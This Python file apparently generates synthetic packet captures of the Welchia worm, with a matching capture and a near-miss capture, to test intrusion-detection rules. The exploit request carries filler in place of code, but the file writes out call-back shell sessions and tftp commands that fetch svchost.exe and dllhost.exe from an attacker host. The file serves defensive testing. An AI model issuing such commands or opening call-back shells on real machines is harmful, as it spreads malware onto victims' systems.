"""Welchia: its ping, its WebDAV request without code, the shell that calls back, its TFTP."""

from __future__ import annotations

from captures.http import page, request, visit
from captures.nimda import read_request
from captures.tape import OTHER, VICTIM, WORM, Capture, Host, Tape, filler

ECHO, ECHO_REPLY = 8, 0
PING = b"\xaa" * 64
SEARCH = b"/\x90" + b"\x02\xb1" * 8 + filler(560)


def ping(tape: Tape, source: Host, target: Host, data: bytes = PING, kind: int = ECHO) -> None:
    tape.icmp(source, target, kind, 0, b"\x02\0\x01\0" + data)


def call_back(tape: Tape, port: int, command: bytes) -> None:
    """Add the session that an attacked host opens to the attacker, who types into it."""
    session = tape.session(VICTIM, WORM, port)
    session.send(b"C:\\WINNT\\system32>")
    session.reply(command)
    session.close()


def fires(tape: Tape) -> None:
    ping(tape, WORM, VICTIM)
    ping(tape, WORM, OTHER)
    visit(tape, WORM, VICTIM, request(SEARCH, method=b"SEARCH"))
    call_back(tape, 707, b"tftp -i 10.20.0.66 get svchost.exe wins\\SVCHOST.EXE\n")
    call_back(tape, 707, b"tftp -i 10.20.0.66 get dllhost.exe wins\\DLLHOST.EXE\n")
    tape.udp(VICTIM, 1040, WORM, 69, read_request(b"svchost.exe"))
    tape.udp(VICTIM, 1041, WORM, 69, read_request(b"dllhost.exe"))


def near_miss(tape: Tape) -> None:
    ping(tape, VICTIM, WORM, kind=ECHO_REPLY)
    ping(tape, WORM, VICTIM, PING[1:])
    ping(tape, WORM, VICTIM, PING + b"\xaa")
    ping(tape, WORM, VICTIM, PING[:40] + b"\xab" + PING[41:])
    ping(tape, OTHER, VICTIM, bytes(range(64)))
    visit(tape, OTHER, VICTIM, request(b"/docs/", b"Depth: 1", method=b"SEARCH", body=b"<searchrequest/>"))
    visit(tape, WORM, VICTIM, request(SEARCH[:40], b"Host: www", method=b"SEARCH"))
    visit(tape, WORM, VICTIM, request(SEARCH[:40] + b"\n" + SEARCH[40:], method=b"SEARCH"))
    visit(tape, OTHER, VICTIM, request(b"/welchia.html"), page(b"SEARCH " + SEARCH))
    call_back(tape, 766, b"tftp -i 10.20.0.66 get svchost.exe wins\\SVCHOST.EXE\n")
    call_back(tape, 707, b"tftp -i 10.20.0.66 get notes.txt docs\\NOTES.TXT\n")
    call_back(tape, 707, b"tftp -i 10.20.0.66 get readme.txt wins\\README.TXT\n")
    call_back(tape, 707, b"copy dllcache\\tftpd.exe wins\\svchost.exe\n")
    tape.udp(VICTIM, 1040, WORM, 69, read_request(b"ourhost.exe"))
    tape.udp(VICTIM, 1041, WORM, 69, read_request(b"svchost.exe.mui"))


CAPTURES = (
    Capture(
        240,
        "welchia.pcap",
        "the ping, twice; the WebDAV request; two commands in a shell that was called back; two TFTP requests",
        "two ICMP echo requests of 64 times 0xAA; three TCP sessions, the first with filler instead of code; two UDP "
        "datagrams",
        {1000501: 1, 1000502: 1, 1000503: 2, 1000504: 2},
        fires,
    ),
    Capture(
        250,
        "welchia_near_miss.pcap",
        "the ping answered, a byte short, a byte long, a byte changed, and of another kind; an honest SEARCH, a "
        "short one, one with a line end within, one as text in a web page; the shell on port 766; other commands; "
        "other files by TFTP",
        "as welchia.pcap, one condition off each",
        {},
        near_miss,
    ),
)
